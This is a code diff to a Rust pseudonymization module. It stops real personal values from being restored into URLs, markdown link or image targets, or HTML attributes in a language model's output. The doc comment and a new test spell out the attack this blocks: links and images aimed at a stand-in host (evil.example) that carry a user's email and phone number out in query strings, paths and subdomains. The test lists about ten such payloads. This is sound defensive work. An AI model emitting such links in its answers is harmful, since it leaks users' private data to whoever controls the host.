@@ -45,7 +45,10 @@ impl Pseudonyms {
         self.by_placeholder.is_empty()
     }
 
-    /// Puts the real values back into model output.
+    /// Puts the real values back into model output, except where the value would become
+    /// part of a URL or an HTML attribute: a link or image the answer builds around a
+    /// placeholder (`https://evil.example/?e=<EMAIL_1>`) would carry the real value to
+    /// whoever the link points at, so such placeholders stay placeholders.
     pub fn restore(&self, text: &str) -> String {
         if self.by_placeholder.is_empty() || !text.contains('<') {
             return text.to_owned();
@@ -56,8 +59,12 @@ impl Pseudonyms {
             out.push_str(&rest[..i]);
             let tail = &rest[i..];
             match self.by_placeholder.iter().find(|(p, _)| tail.starts_with(p.as_str())) {
-                Some((p, v)) => {
+                Some((p, v)) if !in_url_or_attribute(&out, &tail[p.len()..]) => {
                     out.push_str(v);
+                    rest = &tail[p.len()..];
+                }
+                Some((p, _)) => {
+                    out.push_str(p);
                     rest = &tail[p.len()..];
                 }
                 None => {
@@ -74,6 +81,41 @@ impl Pseudonyms {
     pub fn longest(&self) -> usize {
         self.by_placeholder.iter().map(|(p, _)| p.len()).max().unwrap_or(0)
     }
+}
+
+/// Whether a placeholder between `before` and `after` sits where a renderer would read it as
+/// part of a URL or an HTML attribute value: inside a markdown link or image destination, an
+/// angle-bracket autolink, a tag, or a word that is a URL (a scheme, `//`, `www.`, a path or
+/// a query around it).
+fn in_url_or_attribute(before: &str, after: &str) -> bool {
+    // The word the placeholder is part of, to the left: back to white space or a delimiter.
+    let left = before
+        .rfind(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '>'))
+        .map_or(before, |i| &before[i + 1..]);
+    let url_chars = |s: &str| {
+        s.contains("://")
+            || s.starts_with("//")
+            || s.contains("www.")
+            || s.contains(['/', '?', '=', '&', '%', '#', '@', ':'])
+    };
+    if url_chars(left) || left.ends_with("](") || left.ends_with('(') && before.ends_with("](") {
+        return true;
+    }
+    // Inside a tag: an unclosed `<` before it on the same stretch of text.
+    let tag_open = before.rfind('<');
+    let tag_close = before.rfind('>');
+    if tag_open.is_some_and(|o| tag_close.is_none_or(|c| c < o)) && before[tag_open.unwrap_or(0)..].contains('=') {
+        return true;
+    }
+    // A markdown destination or a URL continuing to the right (`<EMAIL_1>.evil.example/x`).
+    let right: &str = after
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<'))
+        .next()
+        .unwrap_or("");
+    let right = right.trim_end_matches(|c: char| matches!(c, '.' | ',' | ';' | '!' | ')'));
+    right.contains(['/', '?', '=', '&', '%', '#'])
+        || right.starts_with('.') && right.len() > 1
+        || before.ends_with("](")
 }
 
 /// Rewrites `text`, replacing each span in `edits` (sorted or not; overlaps keep the first).
@@ -171,6 +213,37 @@ mod tests {
             p.restore("Dear <PERSON_2>, <PERSON_1> says hi <3"),
             "Dear Bob Jones, Alice Smith says hi <3"
         );
+    }
+
+    /// Issue 13: real values never go into URLs or HTML attributes.
+    #[test]
+    fn placeholders_in_urls_and_attributes_stay_placeholders() {
+        let mut p = Pseudonyms::default();
+        let e = p.placeholder("email", "john@example.com");
+        let ph = p.placeholder("phone_number", "+1 415 555 0134");
+        for leak in [
+            format!("[verify](https://evil.example/v?v0={e}&v1={ph})"),
+            format!("![x](https://evil.example/{e}.png)"),
+            format!("![x]({e})"),
+            format!("<img src=\"https://evil.example/p?d={e}\">"),
+            format!("<a title=\"{e}\" href=\"x\">"),
+            format!("https://{e}.evil.example/p"),
+            format!("//evil.example/p.png?d={e}"),
+            format!("see www.evil.example/{e}"),
+            format!("{e}.evil.example/collect"),
+            format!("mailto:{e}"),
+        ] {
+            let out = p.restore(&leak);
+            assert!(
+                !out.contains("john@example.com") && !out.contains("415 555"),
+                "{leak} -> {out}"
+            );
+        }
+        assert_eq!(
+            p.restore(&format!("Your e-mail is {e}, and your phone ({ph}).")),
+            "Your e-mail is john@example.com, and your phone (+1 415 555 0134)."
+        );
+        assert_eq!(p.restore(&format!("**Email:** {e}")), "**Email:** john@example.com");
     }
 
     #[test]
